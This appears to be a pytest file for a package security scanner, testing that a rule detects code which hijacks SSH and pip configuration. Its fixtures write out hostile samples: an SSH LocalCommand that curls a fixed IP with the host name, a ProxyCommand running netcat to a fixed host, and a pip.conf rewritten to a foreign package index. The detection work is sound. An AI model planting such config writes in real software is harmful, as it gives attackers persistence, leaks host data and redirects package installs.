"""Other programs' configuration written to run a command or fetch elsewhere
(``_scan._config_hijacks``)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._config_hijacks import hijacked_config
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "pkg/__init__.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind16 (tune b16-ot-ssh-config-proxycommand, -pip-conf-index).
HIJACKS = [
    "import os\nwith open(os.path.expanduser('~/.ssh/config'), 'a') as f:\n"
    "    f.write('\\nHost *\\n  PermitLocalCommand yes\\n"
    "  LocalCommand curl -s http://192.0.2.8/s?h=%h\\n')\n",
    "from pathlib import Path\n(Path.home() / '.ssh' / 'config').write_text("
    "'Host *\\n  ProxyCommand sh -c \"nc 203.0.113.5 22; nc %h %p\"\\n')\n",
    "import os, sys\n"
    "p = os.path.join(os.environ['APPDATA'], 'pip', 'pip.ini') if sys.platform == 'win32' "
    "else os.path.expanduser('~/.config/pip/pip.conf')\n"
    "with open(p, 'w') as f:\n"
    "    f.write('[global]\\nindex-url = https://pypi.mirror.example/simple\\n')\n",
]


@pytest.mark.parametrize("source", HIJACKS)
def test_a_command_or_an_index_on_a_fixed_host_written_into_config_is_persistence(
    source: str,
) -> None:
    assert "CPL-THR-009" in danger(source)


@pytest.mark.parametrize("source", HIJACKS)
def test_a_config_hijack_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-009")


@pytest.mark.parametrize(
    "source",
    [
        # a proxy or an index the user chose, and the real index
        "import os\ndef add(host, proxy):\n"
        "    with open(os.path.expanduser('~/.ssh/config'), 'a') as f:\n"
        "        f.write(f'Host {host}\\n  ProxyCommand {proxy}\\n')\n",
        "import os\ndef use(url):\n"
        "    with open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as f:\n"
        "        f.write('[global]\\nindex-url = ' + url + '\\n')\n",
        "import os\nwith open(os.path.expanduser('~/.config/pip/pip.conf'), 'w') as f:\n"
        "    f.write('[global]\\nindex-url = https://pypi.org/simple\\ntimeout = 60\\n')\n",
        # a host alias with no command
        "import os\nwith open(os.path.expanduser('~/.ssh/config'), 'a') as f:\n"
        "    f.write('Host box\\n  HostName 192.0.2.10\\n  User me\\n')\n",
    ],
)
def test_config_written_with_what_the_user_chose_or_no_command_stays_clean(source: str) -> None:
    assert "CPL-THR-009" not in danger(source)


def test_the_directive_is_named_in_the_finding() -> None:
    found = hijacked_config(["x/pip.conf"], ["[global]\nextra-index-url = http://198.51.100.3/s\n"])
    assert found == "a package index ('extra-index-url = http://198.51.100.3/s')"
    assert hijacked_config(["notes.txt"], ["index-url = http://198.51.100.3/s"]) is None
